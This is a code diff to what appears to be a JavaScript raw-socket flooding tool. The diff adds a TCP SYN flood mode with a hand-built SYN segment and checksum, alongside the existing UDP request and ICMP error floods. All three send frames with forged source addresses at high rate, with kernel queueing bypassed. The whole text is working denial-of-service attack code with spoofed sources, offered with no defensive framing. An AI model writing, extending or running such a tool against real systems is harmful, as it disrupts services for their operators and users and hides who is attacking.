@@ -17,7 +17,7 @@ const SOCK_RAW = 3;
 const SOL_PACKET = 263;
 const PACKET_QDISC_BYPASS = 20;
 const ETH_P_IP = 0x0800;
-const [IPPROTO_ICMP, IPPROTO_UDP] = [1, 17];
+const [IPPROTO_ICMP, IPPROTO_TCP, IPPROTO_UDP] = [1, 6, 17];
 
 const FRAMES = 32_768;
 const BATCH = 64;
@@ -78,15 +78,26 @@ function complaint(number) {
   return icmp;
 }
 
+/** The first segment of a connection that nobody wants. */
+function syn(number) {
+  const source = forged(number);
+  const ports = [...u16(1024 + (number % 60_000)), ...u16(spec.to.port)];
+  const segment = [...ports, ...randomBytes(4), 0, 0, 0, 0, 0x50, 0x02, 0xff, 0xff, 0, 0, 0, 0];
+  const pseudo = [...source, ...ip(spec.to.ip), 0, IPPROTO_TCP, ...u16(segment.length)];
+  segment.splice(16, 2, ...u16(sum([...pseudo, ...segment])));
+  return segment;
+}
+
+const KINDS = {
+  requests: [IPPROTO_UDP, (number) => udp(1024 + (number % 60_000), spec.to.port, request())],
+  errors: [IPPROTO_ICMP, complaint],
+  syns: [IPPROTO_TCP, syn],
+};
+
 function frame(number) {
-  const errors = spec.packets === 'errors';
-  const body = errors ? complaint(number) : udp(1024 + (number % 60_000), spec.to.port, request());
-  const header = ipHeader(
-    errors ? IPPROTO_ICMP : IPPROTO_UDP,
-    forged(number),
-    ip(spec.to.ip),
-    body.length,
-  );
+  const [protocol, make] = KINDS[spec.packets];
+  const body = make(number);
+  const header = ipHeader(protocol, forged(number), ip(spec.to.ip), body.length);
   return [...mac(spec.mac), 2, 0, 0, 0, 0, 1, ...u16(ETH_P_IP), ...header, ...body];
 }
 
@@ -122,7 +133,9 @@ process.stdout.write('flooding\n');
 const sleeper = new Int32Array(new SharedArrayBuffer(4));
 const from = performance.now();
 while (!end.signal.aborted && !(spec.count && sent >= spec.count)) {
-  const due = spec.rate ? ((performance.now() - from) * spec.rate) / 1000 : sent + 4096;
+  // Who cannot keep up must still hear that it is to end.
+  const scheduled = spec.rate ? ((performance.now() - from) * spec.rate) / 1000 : Infinity;
+  const due = Math.min(scheduled, sent + 4096);
   while (sent < due && !(spec.count && sent >= spec.count)) {
     const at = sent % FRAMES;
     const wanted = Math.min(BATCH, FRAMES - at, spec.count ? spec.count - sent : BATCH);
